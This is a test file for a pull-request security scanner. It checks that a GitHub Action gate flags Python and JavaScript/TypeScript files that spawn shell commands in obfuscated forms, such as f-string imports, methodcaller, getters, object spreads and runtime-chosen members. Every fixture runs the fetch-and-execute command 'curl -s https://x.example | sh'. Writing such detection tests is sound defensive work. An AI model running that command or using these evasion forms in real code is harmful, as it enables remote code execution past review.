import { writeFileSync } from "node:fs";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { FakeGitHub } from "../action/fake-github";
import { gate, pullRequest, scanAnnotations } from "./pr";

// A pull request must not start a process by spelling the call in a form the scan did not follow: each file here ran
// its command under Python 3 or Node 20 and passed the gate before (core/scan: f-strings, methodcaller, unbound
// __getattribute__, walrus, lambda defaults, sys.modules.get/setdefault, object spreads, getters, functions called in
// place, TypeScript's `as const` constants and parameter properties' defaults, a member chosen at run time). One pull request per language: a run
// annotates at most 10 errors.

const api = new FakeGitHub();
beforeAll(() => api.start());
afterAll(() => api.stop());

const CMD = "curl -s https://x.example | sh";

describe("forms an attacker's pull request could use fail the gate", () => {
  it("scan/shell-command: each Python form fails the built Action, at the call", async () => {
    const pr = await pullRequest((dir) => {
      writeFileSync(join(dir, "agent/fstring.py"), `import importlib\nx = "o"\nimportlib.import_module(f"{x}s").system("${CMD}")\n`);
      writeFileSync(join(dir, "agent/loaded.py"), `import sys\nsys.modules.get("o" + "s").system("${CMD}")\nsys.modules.setdefault("os", None).popen("${CMD}")\n`);
      writeFileSync(join(dir, "agent/caller.py"), `import os, operator\noperator.methodcaller("system", "${CMD}")(os)\ntype(os).__getattribute__(os, "system")("${CMD}")\n`);
      writeFileSync(join(dir, "agent/walrus.py"), `import os\nif (g := os.system):\n    g("${CMD}")\nrun = lambda c, r=os.system: r(c)\n`);
    });
    const r = await gate(api, pr);
    expect(r.code).toBe(1);
    expect(scanAnnotations(r.commands).sort()).toEqual([
      "scan/shell-command agent/caller.py 2 1",
      "scan/shell-command agent/caller.py 3 1",
      "scan/shell-command agent/fstring.py 3 1",
      "scan/shell-command agent/loaded.py 2 1",
      "scan/shell-command agent/loaded.py 3 1",
      "scan/shell-command agent/walrus.py 3 5",
      "scan/shell-command agent/walrus.py 4 30",
    ]);
  });

  it("scan/shell-command: each JavaScript and TypeScript form fails the built Action, at the call", async () => {
    const pr = await pullRequest((dir) => {
      writeFileSync(join(dir, "agent/spread.js"), `const cp = require("child_process");\nconst o = { ...cp };\no.execSync("${CMD}");\n`);
      writeFileSync(join(dir, "agent/getter.js"), `const cp = require("child_process");\nclass T { get run() { return cp.execSync; } }\nnew T().run("${CMD}");\n(() => cp.exec)()("${CMD}");\n`);
      writeFileSync(join(dir, "agent/key.ts"), `import * as cp from "child_process";\nconst k = "execSync" as const;\ncp[k]("${CMD}");\n`);
      writeFileSync(join(dir, "agent/prop.ts"), `import * as cp from "child_process";\nclass A { constructor(public run = cp.execSync) {} }\nnew A().run("${CMD}");\n`);
    });
    const r = await gate(api, pr);
    expect(r.code).toBe(1);
    expect(scanAnnotations(r.commands).sort()).toEqual([
      "scan/shell-command agent/getter.js 3 1",
      "scan/shell-command agent/getter.js 4 1",
      "scan/shell-command agent/key.ts 3 1",
      "scan/shell-command agent/prop.ts 3 1",
      "scan/shell-command agent/spread.js 3 1",
    ]);
  });

  it("scan/shell-command: a member of child_process or os chosen at run time and called fails the built Action; the globals' does not", async () => {
    const pr = await pullRequest((dir) => {
      writeFileSync(join(dir, "agent/pick.js"), `const cp = require("child_process");
const verb = process.env.VERB;
cp[verb]("${CMD}");
window[verb]();
`);
      writeFileSync(join(dir, "agent/pick.py"), `import os, sys
getattr(os, sys.argv[1])("${CMD}")
vars(os)[sys.argv[2]]("${CMD}")
`);
    });
    const r = await gate(api, pr);
    expect(r.code).toBe(1);
    expect(scanAnnotations(r.commands).sort()).toEqual(["scan/shell-command agent/pick.js 3 1", "scan/shell-command agent/pick.py 2 1", "scan/shell-command agent/pick.py 3 1"]);
  });
});
